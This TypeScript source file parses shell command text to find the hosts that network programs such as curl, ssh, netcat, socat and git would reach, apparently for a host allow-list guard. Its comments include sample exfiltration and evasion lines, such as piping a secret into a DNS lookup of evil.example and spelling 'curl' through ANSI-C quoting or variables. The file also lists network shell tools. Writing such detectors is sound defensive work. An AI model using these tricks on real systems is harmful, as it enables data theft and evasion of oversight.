import { reachedHost, remoteHost } from '../../core/brain/hosts.ts';
import { invocationOf, invocationsOf, readCommands, type Invocation, type Word } from '../../core/brain/shell-words.ts';

/**
 * The hosts network commands in a text reach without a scheme (`curl evil.example/x`,
 * `ssh user@evil.example`, `git clone evil.example:repo`), read as a shell splits the text:
 * quoted or escaped, behind `sudo`, `env` or `timeout`, in a script given to `bash -c` or
 * `ssh host`. Only a network program's destinations are read, never a name in other text, so
 * no file name (`notes.md`, `setup.py`) becomes a host. A destination the reader cannot name (an
 * expansion `curl $HOST`, a list read from a file or from input) is reported as unread.
 */

/** Where the hosts read go. */
export interface HostSink {
  /** A host as WHATWG's URL parser normalises it, without a final dot. */
  add(host: string): void;
  /** Some destination was not read. */
  unread(): void;
}

/** How a network program's arguments name the hosts it reaches. */
interface Grammar {
  /**
   * Which operands name a host: each one (`curl`, `ping`), the first only (the rest is a port, or
   * a command run there), each written as a remote `[user@]host:path` (`scp`, `git`), or each
   * written as a `socat` address (`TCP:host:port`).
   */
  readonly operands: 'every' | 'first' | 'remote' | 'address';
  /** Short options that take a value: the rest of their cluster, or the next word. */
  readonly valued: string;
  /**
   * Its operands are words that only look like hosts when one-label (`dig example.com MX`, a git
   * refspec `main:main`): a one-label name there is no host. Elsewhere it is one (`ssh bastion`).
   */
  readonly dottedOnly?: boolean;
  /** Long options (`output` for `--output`) that take the next word as their value unless given with `=`. */
  readonly valuedLong?: ReadonlySet<string>;
  /** Options whose value names hosts (a proxy, a jump host, a redirection): comma- and colon-separated. */
  readonly hostOptions?: readonly string[];
  /** Options whose value is a file the destinations are read from. */
  readonly fileOptions?: readonly string[];
  /** The words after the first operand are a command run on that host (`ssh host curl x`). */
  readonly remoteCommand?: boolean;
  /** `-o ProxyJump=host`, `-o HostName=host`, `-o ProxyCommand=…`: ssh's configuration options. */
  readonly sshOptions?: boolean;
  /** Options are PowerShell's (`-OutFile x`): each takes the next word but for the switches. */
  readonly powershell?: boolean;
}

/** The names of a list written as words. */
const names = (words: string): ReadonlySet<string> => new Set(words.trim().split(/\s+/));

const SSH_VALUED = 'BbcDEeFIiJLlmOoPpQRSWw';
const CURL: Grammar = {
  operands: 'every',
  valued: 'AbcCdDeEFHKmoPQrtTuUwxXyYz',
  valuedLong: names(
    `data data-raw data-binary data-urlencode data-ascii json header output output-dir user
     user-agent referer request upload-file form form-string cookie cookie-jar write-out
     max-time connect-timeout retry retry-delay retry-max-time range cert key cacert capath
     dump-header proxy-user oauth2-bearer continue-at limit-rate max-filesize interface
     local-port trace trace-ascii stderr netrc-file unix-socket variable`,
  ),
  hostOptions: ['-x', '--proxy', '--preproxy', '--url', '--doh-url', '--connect-to', '--resolve'],
  fileOptions: ['-K', '--config'],
};
const WGET: Grammar = {
  operands: 'every',
  valued: 'aABDeiIloOPQRtTUwX',
  valuedLong: names(
    `output-document output-file append-output directory-prefix user-agent header post-data
     post-file body-data body-file method tries timeout wait user password http-user
     http-password accept reject level quota load-cookies save-cookies ca-certificate
     certificate private-key execute domains referer`,
  ),
  hostOptions: ['-B', '--base'],
  fileOptions: ['-i', '--input-file'],
};
const NETCAT: Grammar = {
  operands: 'first',
  valued: 'cegGImiMOoPpqsTVWwXx',
  valuedLong: names(`sh-exec exec lua-exec proxy-type proxy-auth source-port wait idle-timeout output`),
  hostOptions: ['-x', '--proxy'],
};
const RSYNC: Grammar = {
  operands: 'remote',
  valued: 'BefMT@',
  valuedLong: names(
    `rsh filter exclude include exclude-from include-from files-from temp-dir partial-dir
     compare-dest copy-dest link-dest backup-dir suffix chmod chown password-file log-file
     out-format port bwlimit timeout contimeout address rsync-path block-size max-size
     min-size remote-option`,
  ),
};
const GIT: Grammar = {
  operands: 'remote',
  valued: 'bCcFjmotu',
  dottedOnly: true,
  valuedLong: names(
    `git-dir work-tree namespace branch origin depth reference template upload-pack
     receive-pack separate-git-dir config filter jobs message file author date`,
  ),
};
const INVOKE_WEB: Grammar = { operands: 'every', valued: '', hostOptions: ['-uri', '-proxy'], powershell: true };
const DESTINATIONS: ReadonlyMap<string, Grammar> = new Map([
  ['curl', CURL],
  ['wget', WGET],
  ['nc', NETCAT],
  ['ncat', NETCAT],
  ['netcat', NETCAT],
  ['socat', { operands: 'address', valued: 'dDlLt' }],
  ['telnet', { operands: 'first', valued: 'beklnSX' }],
  ['ftp', { operands: 'first', valued: 'oPs' }],
  ['ssh', { operands: 'first', valued: SSH_VALUED, hostOptions: ['-J', '-W'], remoteCommand: true, sshOptions: true }],
  ['sftp', { operands: 'first', valued: 'BbcDFiJloPRSsX', hostOptions: ['-J'], sshOptions: true }],
  ['scp', { operands: 'remote', valued: 'cDFiJloPSX', hostOptions: ['-J'], sshOptions: true }],
  ['rsync', RSYNC],
  ['git', GIT],
  ['ping', { operands: 'every', valued: 'cIilMpQsStTwW' }],
  ['dig', { operands: 'every', valued: 'bcfkptxy', hostOptions: ['-q'], dottedOnly: true }],
  ['nslookup', { operands: 'every', valued: '', dottedOnly: true }],
  ['iwr', INVOKE_WEB],
  ['irm', INVOKE_WEB],
  ['invoke-webrequest', INVOKE_WEB],
  ['invoke-restmethod', INVOKE_WEB],
]);

/**
 * Programs that run another one given after their options (`proxychains4 -q curl …`), and which
 * of those options take a value.
 */
const NETWORK_WRAPPERS: ReadonlyMap<string, string> = new Map([
  ['proxychains', 'f'],
  ['proxychains4', 'f'],
  ['torsocks', 'uapP'],
  ['tsocks', ''],
  ['sshpass', 'pfdP'],
]);

/** PowerShell's switches of the web cmdlets: the options that take no value. */
const POWERSHELL_SWITCHES = new Set([
  '-usebasicparsing',
  '-usedefaultcredentials',
  '-proxyusedefaultcredentials',
  '-passthru',
  '-skipcertificatecheck',
  '-skipheadervalidation',
  '-skiphttperrorcheck',
  '-allowunencryptedauthentication',
  '-disablekeepalive',
  '-resume',
  '-noproxy',
  '-allowinsecureredirect',
]);

/**
 * Nested scripts (`bash -c "ssh host 'curl …'"`) and wrappers are read this deep; a deeper one
 * naming a network program is unread.
 */
const MAX_DEPTH = 4;

/** A network program named in a text, quotes and escapes aside: only such a text is read as commands. */
const NETWORK_WORD = new RegExp(`(?<![\\w.-])(?:${[...DESTINATIONS.keys()].join('|')})(?![\\w-])`, 'i');
const QUOTING = /['"\\]/g;
/** An assignment, where a command starts or after a word: read with an expansion, it may name a program. */
const ASSIGNED = /(?:^|[\s;&|(])[A-Za-z_][A-Za-z0-9_]*=/;
/** A word a shell would split again if it ran it: a script given to `bash -c`, `ssh host` or `eval`. */
const SCRIPT_LIKE = /[\s;&|`$(<>]/;
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
/** A command substitution right after a command's last word. */
const SUBSTITUTION_NEXT = /[ \t]*(?:\$\(|`)/y;
/** A host no parser needs more to name: an expansion (`$HOST`, `` `cat h` ``) is not read here. */
const EXPANSION = /[$`]/;

/** Reads the network commands of `text` (a tool's argument), reporting the hosts they reach to `sink`. */
export function commandHosts(text: string, sink: HostSink): void {
  readScript(text, sink, 0);
}

/**
 * The text may spell a network program's name without writing it: with ANSI-C quoting
 * (`$'\x63url'`), or as variables it assigns (`A=cu; B=rl; $A$B`). Such a text is read as commands too.
 */
function spellsName(text: string): boolean {
  return text.includes("$'") || (text.includes('$') && ASSIGNED.test(text));
}

function readScript(text: string, sink: HostSink, depth: number): void {
  if (!NETWORK_WORD.test(text) && !NETWORK_WORD.test(text.replace(QUOTING, '')) && !spellsName(text)) return;
  if (depth > MAX_DEPTH) {
    sink.unread();
    return;
  }
  const { commands } = readCommands(text);
  for (const command of commands)
    for (const { value } of command.words) {
      const script = ASSIGNMENT.test(value) ? value.slice(value.indexOf('=') + 1) : value;
      if (SCRIPT_LIKE.test(script)) readScript(script, sink, depth + 1);
    }
  for (const inv of invocationsOf(commands)) {
    // `ping $(cat secret).evil.example`: the reader ends a command where a substitution starts,
    // so what follows it (the rest of the destination) is not among the command's words.
    const last = inv.command.words.at(-1) as Word;
    SUBSTITUTION_NEXT.lastIndex = last.end;
    readInvocation(inv, sink, depth, SUBSTITUTION_NEXT.test(text));
  }
}

function readInvocation(inv: Invocation, sink: HostSink, depth: number, cut = false): void {
  // `$HOST_TOOL evil.example`: a program the text does not name may be a network one.
  if (inv.hiddenProgram) {
    sink.unread();
    return;
  }
  const wrapperValued = NETWORK_WRAPPERS.get(inv.program);
  if (wrapperValued !== undefined) {
    const wrapped = invocationOf({ ...inv.command, words: afterOptions(inv.args, wrapperValued) });
    if (wrapped === null) return;
    // A wrapper's program is read as a script nested in it: a chain of them ends as deep scripts do.
    if (depth >= MAX_DEPTH) sink.unread();
    else readInvocation({ ...wrapped, wrappers: [...inv.wrappers, ...wrapped.wrappers] }, sink, depth + 1, cut);
    return;
  }
  const grammar = DESTINATIONS.get(inv.program);
  if (grammar === undefined) return;
  // `echo host | xargs curl`: its destinations come from its input.
  if (cut || (inv.wrappers.includes('xargs') && inv.command.pipeIn)) sink.unread();
  readArguments(inv, grammar, sink, depth);
}

/** The words after a wrapper's own options. */
function afterOptions(args: readonly Word[], valued: string): Word[] {
  let i = 0;
  while (i < args.length && (args[i] as Word).value.startsWith('-')) {
    const option = (args[i] as Word).value;
    i += option.length === 2 && valued.includes(option.charAt(1)) ? 2 : 1;
  }
  return args.slice(i);
}

function readArguments(inv: Invocation, grammar: Grammar, sink: HostSink, depth: number): void {
  const { args } = inv;
  let operands = 0;
  let optionsEnd = false;
  for (let i = 0; i < args.length; i++) {
    const word = (args[i] as Word).value;
    if (!optionsEnd && word === '--') {
      optionsEnd = true;
      continue;
    }
    if (!optionsEnd && word.length > 1 && word.startsWith('-')) {
      const option = readOption(grammar, word, args[i + 1]?.value);
      if (option.takesNext) i++;
      if (option.value === undefined) continue;
      if (option.kind === 'host') hostsInValue(option.value, sink, true);
      else if (option.kind === 'file') sink.unread();
      else if (option.kind === 'ssh') sshOption(option.value, sink, depth);
      continue;
    }
    operands++;
    switch (grammar.operands) {
      case 'every':
        operandHost(word, sink, grammar.dottedOnly !== true);
        break;
      case 'first':
        if (operands > 1) break;
        operandHost(word, sink, grammar.dottedOnly !== true);
        if (grammar.remoteCommand === true && i + 1 < args.length) {
          const remote = invocationOf({ words: args.slice(i + 1), pipeIn: false, pipeOut: false });
          if (remote === null) return;
          if (depth >= MAX_DEPTH) sink.unread();
          else readInvocation(remote, sink, depth + 1);
          return;
        }
        break;
      case 'remote': {
        const host = remoteHost(word);
        if (host !== undefined) candidate(host, sink, grammar.dottedOnly !== true);
        break;
      }
      case 'address':
        addressHost(word, sink);
        break;
    }
  }
}

interface Option {
  readonly kind: 'host' | 'file' | 'ssh' | 'other';
  readonly value: string | undefined;
  /** Its value is the next word. */
  readonly takesNext: boolean;
}

/** An option word: what its value names, and where the value is. */
function readOption(grammar: Grammar, word: string, next: string | undefined): Option {
  const kindOf = (name: string): Option['kind'] =>
    grammar.hostOptions?.includes(name) === true
      ? 'host'
      : grammar.fileOptions?.includes(name) === true
        ? 'file'
        : grammar.sshOptions === true && name === '-o'
          ? 'ssh'
          : 'other';
  if (grammar.powershell === true) {
    const name = word.toLowerCase();
    if (POWERSHELL_SWITCHES.has(name)) return { kind: 'other', value: undefined, takesNext: false };
    const colon = name.indexOf(':');
    if (colon > 0) return { kind: kindOf(name.slice(0, colon)), value: word.slice(colon + 1), takesNext: false };
    return { kind: kindOf(name), value: next, takesNext: true };
  }
  if (word.startsWith('--')) {
    const eq = word.indexOf('=');
    const name = eq < 0 ? word : word.slice(0, eq);
    const kind = kindOf(name);
    if (eq >= 0) return { kind, value: word.slice(eq + 1), takesNext: false };
    const valued = kind !== 'other' || grammar.valuedLong?.has(name.slice(2)) === true;
    return { kind, value: valued ? next : undefined, takesNext: valued };
  }
  // A cluster of short options (`-sSLo out`): the first that takes a value takes the rest of the word, or the next one.
  for (let c = 1; c < word.length; c++) {
    const name = `-${word.charAt(c)}`;
    const kind = kindOf(name);
    if (kind === 'other' && !grammar.valued.includes(word.charAt(c))) continue;
    const rest = word.slice(c + 1);
    return rest === '' ? { kind, value: next, takesNext: true } : { kind, value: rest, takesNext: false };
  }
  return { kind: 'other', value: undefined, takesNext: false };
}

/** `-o ProxyJump=a,b`, `-o HostName=x`, `-o "ProxyCommand=nc x 22"`: where ssh connects instead. */
function sshOption(value: string, sink: HostSink, depth: number): void {
  const option = /^\s*(proxyjump|hostname|proxycommand)\s*[=\s]\s*(.*)$/is.exec(value);
  if (option === null) return;
  const [, key = '', setting = ''] = option;
  if (key.toLowerCase() === 'proxycommand') readScript(setting, sink, depth + 1);
  else hostsInValue(setting, sink, true);
}

/** A URL, read as URLs are wherever they are (`hostsOf`), not as an operand. */
const SCHEME = /^[a-z][a-z0-9+.-]*:[/\\]/i;
/** Where a word shows it names a place: a path, a port, a user (`metadata/v1`, `intranet:8080`, `me@bastion`). */
const PLACE = /[/:@]/;

/**
 * A host without a scheme (`evil.example/x`, `user@evil.example:8080`, `@1.1.1.1` for dig). A
 * one-label name counts (`oneLabel`) where the word names a place: prose after a network word
 * (`ping me when done`) has no such word.
 */
function operandHost(word: string, sink: HostSink, oneLabel: boolean): void {
  if (SCHEME.test(word)) return;
  const authority = word.split(/[/?#]/, 1)[0] as string;
  const server = authority.slice(authority.lastIndexOf('@') + 1);
  candidate(
    server.startsWith('[') ? server.slice(0, server.indexOf(']') + 1) : (server.split(':', 1)[0] as string),
    sink,
    oneLabel && PLACE.test(word),
  );
}

/** A proxy, a jump host list or a redirection (`user@jump:22,other`, `::evil.example:443`): every host-like piece. */
function hostsInValue(value: string, sink: HostSink, oneLabel: boolean): void {
  for (const part of value.split(','))
    for (const piece of part.match(/\[[^\]]*\]|[^:[\]]+/g) ?? []) {
      const server = piece.slice(piece.lastIndexOf('@') + 1);
      candidate(server.replace(/^\/+/, '').split('/', 1)[0] as string, sink, oneLabel);
    }
}

/** socat's address types that connect somewhere. */
const CONNECTING_ADDRESS =
  /^(?:tcp[46]?(?:-connect)?|udp[46]?(?:-connect|-sendto)?|sctp[46]?(?:-connect)?|openssl(?:-connect)?|ssl|socks[45]a?|proxy(?:-connect)?)$/i;

/** A socat address that connects (`TCP:host:port`, `OPENSSL:host:port`, `SOCKS4A:proxy:host:port`). */
function addressHost(word: string, sink: HostSink): void {
  const [type = '', ...rest] = word.split(':');
  if (!CONNECTING_ADDRESS.test(type)) return;
  for (const piece of rest) candidate(piece.split(',', 1)[0] as string, sink, true);
}

const IPV4 = /^\d+\.\d+\.\d+\.\d+$/;
const NAME = /^(?:[a-z0-9_-]+\.)+(?:[a-z]{2,}|xn--[a-z0-9-]+)$/;
/** One label holding a letter: `metadata`, `bastion`; `80` is a port. */
const LABEL = /^(?=[a-z0-9_-]*[a-z])[a-z0-9_-]+$/;
/** 1.0.0.0: a single number this large names an address (`curl 2130706433`); a port or a count is smaller. */
const LOWEST_NUMBERED_ADDRESS = 2 ** 24;

/**
 * A piece read where a host goes, kept when it names one, as a URL parser reaches it: a name with
 * a dot and a top-level label of letters, an address, `localhost`, and (`oneLabel`) a name of one
 * label holding a letter (`curl metadata/…`, `ssh bastion`): it resolves inside the network, which
 * is where an allow list matters most. A port or a count is no host.
 */
function candidate(piece: string, sink: HostSink, oneLabel: boolean): void {
  if (piece === '') return;
  if (EXPANSION.test(piece)) {
    sink.unread();
    return;
  }
  const host = reachedHost(piece)?.replace(/\.$/, '');
  if (host === undefined) return;
  const address = IPV4.test(host) && (piece.includes('.') || Number(piece) >= LOWEST_NUMBERED_ADDRESS);
  if (address || host.startsWith('[') || host === 'localhost' || NAME.test(host) || (oneLabel && LABEL.test(host)))
    sink.add(host);
}
